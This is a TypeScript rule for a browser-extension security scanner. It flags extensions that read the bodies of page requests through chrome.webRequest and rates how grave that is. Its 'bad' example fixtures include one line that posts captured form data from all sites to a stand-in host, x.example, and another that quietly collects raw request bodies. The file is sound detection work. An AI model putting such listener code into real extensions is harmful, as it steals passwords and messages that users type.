import { coversAllSites } from '../../facts/extension/matchPattern.ts';
import { manifestOf } from '../../facts/extension/roles.ts';
import { callsOf, constant, readsNamed } from '../../facts/javascript/query.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts } from './checkScripts.ts';
import { gravest } from './flowOut.ts';
import { itemsOf } from '../../facts/javascript/itemsOf.ts';
import { say } from '../../../texts/say.ts';

/** How flows call what is read of them. */
const BODY = 'body of a request that a page makes';

export const requestBodiesRecorded = defineRule({
  id: 'request-bodies-recorded',
  title: 'Reads the bodies of requests that pages send',
  severity: 'medium',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-359',
  references: ['https://developer.chrome.com/docs/extensions/reference/api/webRequest'],
  why: 'Request bodies hold passwords, messages and everything else users enter, before encryption.',
  remedy: 'Do not request bodies. Most uses need only the address.',
  check: checkScripts(function* ({ script, facts, hit }) {
    const hosts = manifestOf(facts)?.manifest.hosts ?? [];
    for (const call of callsOf(script, 'chrome.webRequest.onBeforeRequest.addListener')) {
      if (!itemsOf(script, call.args[2] ?? 0).some((item) => constant(script, item) === 'requestBody')) continue;
      const bodies = facts.whole(flowsOf).flows.filter(({ source }) => source.label === BODY);
      const isKept = bodies.some(
        ({ source, sink }) =>
          source.unit.script === script && (sink.kind === 'message' || sink.kind === 'storage-write'),
      );
      const sent = gravest(facts, bodies);
      yield hit(
        call.value,
        sent !== undefined && sent.severity !== 'low'
          ? { severity: sent.severity, confidence: sent.confidence, message: say('sent-to', sent.flow.sink.to ?? '*') }
          : !isKept
            ? {
                severity: 'low',
                message: say(readsNamed(script, 'requestBody').length > 0 ? 'read-not-sent' : 'requested-not-read'),
              }
            : // What is asked of the sites that an extension is for tells of these alone.
              {
                severity:
                  hosts.length === 0 || hosts.some(({ pattern }) => coversAllSites(pattern)) ? 'high' : 'medium',
              },
      );
    }
  }),
  examples: {
    bad: [
      backgroundExample(
        'chrome.webRequest.onBeforeRequest.addListener((d) => { fetch("https://x.example/b", { method: "POST", body: JSON.stringify(d.requestBody.formData) }); }, { urls: ["<all_urls>"] }, ["requestBody"]);',
      ),
      backgroundExample(
        'function see(details) { const raw = details.requestBody && details.requestBody.raw; list.push(raw); } const list = []; chrome.webRequest.onBeforeRequest.addListener(see, { urls: ["*://*/*"] }, ["blocking", "requestBody"]);',
      ),
    ],
    good: [
      backgroundExample(
        'chrome.webRequest.onBeforeRequest.addListener((d) => ({ cancel: blocked(d.url) }), { urls: ["<all_urls>"] }, ["blocking"]);',
      ),
      backgroundExample(
        'app.post("/x", (req) => { save(req.requestBody); }); chrome.webRequest.onCompleted.addListener((d) => count(d), { urls: ["<all_urls>"] });',
      ),
    ],
  },
});
